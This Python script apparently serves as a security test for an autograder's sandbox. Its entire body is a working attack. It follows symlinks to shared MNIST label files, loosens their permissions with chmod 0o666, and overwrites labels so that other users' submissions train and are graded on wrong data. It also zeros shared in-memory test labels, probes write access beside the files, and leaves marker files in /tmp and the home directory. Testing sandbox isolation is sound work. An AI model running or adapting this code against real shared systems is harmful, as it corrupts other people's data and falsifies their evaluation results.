"""Changes the labels in the unpacked MNIST files to which `data/MNIST/raw` links, so that all later submissions learn and are tested with wrong ones.

family: writing
start: solved
"""

# %% after data
_done = []


def _achieved(what, stem="poison_shared_mnist"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

import glob
import os

for _link in glob.glob("data/MNIST/raw/*labels*"):
    _target = os.path.realpath(_link)
    if "/autograder/data/" in _target or _target.startswith(os.path.realpath(os.getcwd())):
        continue  # the package's own copy is left alone, and a file of ours is no success
    try:
        os.chmod(_target, 0o666)
    except OSError:
        pass
    try:
        with open(_target, "r+b") as _file:
            _file.seek(8)
            _labels = _file.read(500)
            _file.seek(8)
            _file.write(bytes((label + 1) % 10 for label in _labels))
        _achieved("changed " + _target)
    except OSError:
        pass
    try:
        _new = os.path.join(os.path.dirname(_target), "autograder-attack-entry")
        open(_new, "x").close()
        os.remove(_new)
        _achieved("could add and remove files beside " + _target)
    except OSError:
        pass
try:
    # In memory: arrays that are mapped from a file and shared between forks.
    import numpy as np

    import autograder.mnist as _mnist

    _images, _labels = _mnist.load("test")
    _labels.flags.writeable = True
    _labels[:] = 0
except Exception:
    pass
_report()
